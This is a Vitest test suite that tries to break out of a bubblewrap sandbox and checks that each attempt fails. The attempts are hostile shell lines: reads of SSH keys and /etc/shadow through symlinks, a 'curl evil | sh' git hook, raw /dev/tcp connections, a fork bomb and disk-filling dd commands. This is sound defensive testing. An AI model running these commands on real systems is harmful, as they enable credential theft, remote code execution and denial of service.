import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TerminalSettings } from '@flint/protocol';
import { probeSandbox } from './Sandbox';
import { defaultTerminalSettings, TerminalService } from './TerminalService';

/**
 * The escape suite (decision 0033): what a command in a terminal tries, against the real
 * bubblewrap. Without bubblewrap these tests fail — a sandbox that is missing is a failure,
 * never a skip.
 */
const base = mkdtempSync(join(tmpdir(), 'flint-escape-'));
const home = join(base, 'home');
const workspace = join(base, 'ws');
const otherWorkspace = join(base, 'other-ws');
const dataDir = join(workspace, '.flint-data');
const supportDir = join(base, 'support');
const secret = `secret-${Math.random().toString(36).slice(2)}`;
const settings = new Map<string, TerminalSettings>();
let service: TerminalService;

function run(command: string, options: { timeoutMs?: number; workspaceId?: string } = {}) {
  const controller = new AbortController();
  const timer = options.timeoutMs ? setTimeout(() => controller.abort(), options.timeoutMs) : null;
  return service.runSandboxed(options.workspaceId ?? 'w1', command, 'test', controller.signal).finally(() => timer && clearTimeout(timer));
}

/** Host processes whose command line holds `marker` (processes of the sandbox, seen from outside); `starting`: begins with it. */
function hostProcessesWith(marker: string, starting = false): number {
  let count = 0;
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid)) continue;
    try {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ');
      if (starting ? cmdline.startsWith(marker) : cmdline.includes(marker)) count++;
    } catch {
      // gone while we looked
    }
  }
  return count;
}

async function until(condition: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 200; i++) {
    if (condition()) return;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error(`timed out waiting for ${what}`);
}

beforeAll(() => {
  for (const dir of [join(home, '.ssh'), join(workspace, '.git', 'hooks'), otherWorkspace, dataDir]) mkdirSync(dir, { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), secret);
  writeFileSync(join(dataDir, 'flint.sqlite'), secret);
  writeFileSync(join(otherWorkspace, 'notes.md'), secret);
  writeFileSync(join(workspace, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  writeFileSync(join(workspace, 'README.md'), 'hello\n');
  symlinkSync(join(home, '.ssh'), join(workspace, 'ssh-link'));
  process.env.FLINT_ESCAPE_TEST_KEY = secret;
  service = new TerminalService({
    mode: { kind: 'sandbox' },
    supportDir,
    folder: async () => ({ root: workspace, hidden: [dataDir], flush: async () => {}, release: async () => {} }),
    settings: { get: (id) => settings.get(id) ?? null, set: (id, s) => void settings.set(id, s) },
    log: () => {},
    limits: { processes: 64, fileBytes: 1024 * 1024, tmpBytes: 4 * 1024 * 1024, cpuSeconds: 20, memoryBytes: 1024 ** 3 },
  });
});

afterAll(async () => {
  await service.close();
  delete process.env.FLINT_ESCAPE_TEST_KEY;
  rmSync(base, { recursive: true, force: true });
});

describe('the sandbox', () => {
  it('is there: bubblewrap runs here (this suite fails, not skips, without it)', () => {
    expect(probeSandbox(supportDir)).toEqual({ ok: true });
  });

  it('runs commands in the workspace folder, which they may change', async () => {
    const result = await run('pwd; cat README.md; echo made > made.txt');
    expect(result.exitCode).toBe(0);
    expect(result.output).toContain('/workspace');
    expect(result.output).toContain('hello');
    expect(readFileSync(join(workspace, 'made.txt'), 'utf8')).toBe('made\n');
  });

  it('runs as an unprivileged user with no capability, and cannot make a user namespace of its own', async () => {
    const result = await run('id -u; grep CapEff /proc/self/status; unshare -r true && echo NESTED-USERNS');
    expect(result.output).toMatch(/^1000$/m);
    expect(result.output).toMatch(/CapEff:\s+0000000000000000/);
    expect(result.output).not.toContain('NESTED-USERNS');
  });

  it('cannot write outside the folder: not the host, not another workspace', async () => {
    const result = await run(`echo pwned > ${otherWorkspace}/notes.md; echo pwned > /usr/pwned; echo pwned > /etc/pwned; echo pwned > ${base}/pwned; echo pwned > ../pwned`);
    expect(readFileSync(join(otherWorkspace, 'notes.md'), 'utf8')).toBe(secret);
    for (const path of ['/usr/pwned', '/etc/pwned', join(base, 'pwned')]) expect(existsSync(path)).toBe(false);
    expect(result.output).not.toContain(secret);
  });

  it("cannot read a home's keys, the gateway's data or its environment", async () => {
    const result = await run(`cat ${home}/.ssh/id_ed25519 /root/.ssh/* ${dataDir}/flint.sqlite .flint-data/flint.sqlite ${otherWorkspace}/notes.md; env; ls -a .flint-data; touch .flint-data/x`);
    expect(result.output).not.toContain(secret);
    expect(existsSync(join(dataDir, 'x'))).toBe(false);
  });

  it('cannot follow a link out of the folder, one found there or one it makes', async () => {
    const result = await run(`cat ssh-link/id_ed25519; ln -s ${home}/.ssh/id_ed25519 mine; cat mine; ln -s /proc/1/root/etc/shadow shadow; cat shadow`);
    expect(result.output).not.toContain(secret);
    expect(result.output).toMatch(/No such file or directory/);
  });

  it('cannot write .git: hooks stay as they were', async () => {
    const result = await run('echo "curl evil | sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; rm -rf .git; mv .git moved; ls .git');
    expect(result.output).toMatch(/Read-only file system/);
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(workspace, '.git', 'HEAD'), 'utf8')).toBe('ref: refs/heads/main\n');
    expect(existsSync(join(workspace, 'moved'))).toBe(false);
  });

  describe('the network', () => {
    let server: Server;
    let port = 0;
    let connections = 0;
    beforeAll(async () => {
      server = createServer((socket) => {
        connections++;
        socket.end('welcome\n');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as { port: number }).port;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it("is out of reach, the gateway's own loopback services included", async () => {
      const result = await run(`(exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3) ; (exec 3<>/dev/tcp/1.1.1.1/80) ; echo done`, { timeoutMs: 15_000 });
      expect(result.output).not.toContain('welcome');
      expect(connections).toBe(0);
    });

    it('is reachable when the owner turns it on', async () => {
      settings.set('w-net', { ...defaultTerminalSettings, network: true });
      const result = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`, { workspaceId: 'w-net', timeoutMs: 15_000 });
      expect(result.output).toContain('welcome');
      expect(connections).toBe(1);
    });
  });

  it('contains a fork bomb: the process count stops at its limit, and Stop ends them all', async () => {
    const marker = `bomb${Date.now()}`;
    let peak = 0;
    const watcher = setInterval(() => (peak = Math.max(peak, hostProcessesWith(marker))), 50);
    const controller = new AbortController();
    const running = service.runSandboxed('w1', `: ${marker}; b(){ b | b & }; b; exec sleep 100`, 'test', controller.signal);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    controller.abort();
    const result = await running;
    clearInterval(watcher);
    expect(result.stopped).toBe(true);
    expect(peak).toBeGreaterThan(1);
    expect(peak).toBeLessThanOrEqual(64);
    await until(() => hostProcessesWith(marker) === 0, 'the bomb to be gone');
  }, 30_000);

  it('cannot fill the disk: a file stops at its size limit, /tmp at its own', async () => {
    const result = await run('dd if=/dev/zero of=big.bin bs=64k count=1000; for i in 1 2 3 4 5 6 7 8; do dd if=/dev/zero of=/tmp/f$i bs=64k count=15 2>&1 | grep -o "No space left on device"; done');
    expect(statSync(join(workspace, 'big.bin')).size).toBeLessThanOrEqual(1024 * 1024);
    expect(result.output).toMatch(/File size limit exceeded/);
    expect(result.output).toMatch(/No space left on device/);
  });

  it('leaves no process behind when its command ends or is stopped', async () => {
    const marker = `424242${Date.now() % 1000}`;
    const done = await run(`setsid nohup sleep ${marker} > /dev/null 2>&1 & disown; echo started`);
    expect(done.output).toContain('started');
    await until(() => hostProcessesWith(`sleep ${marker}`) === 0, 'the daemonized sleep to end');

    const marker2 = `434343${Date.now() % 1000}`;
    const controller = new AbortController();
    const running = service.runSandboxed('w1', `sleep ${marker2} & sleep ${marker2}1`, 'test', controller.signal);
    await until(() => hostProcessesWith(`sleep ${marker2}`, true) === 2, 'both sleeps to start');
    controller.abort();
    expect((await running).stopped).toBe(true);
    await until(() => hostProcessesWith(`sleep ${marker2}`) === 0, 'the stopped command and its child to end');
  });
});
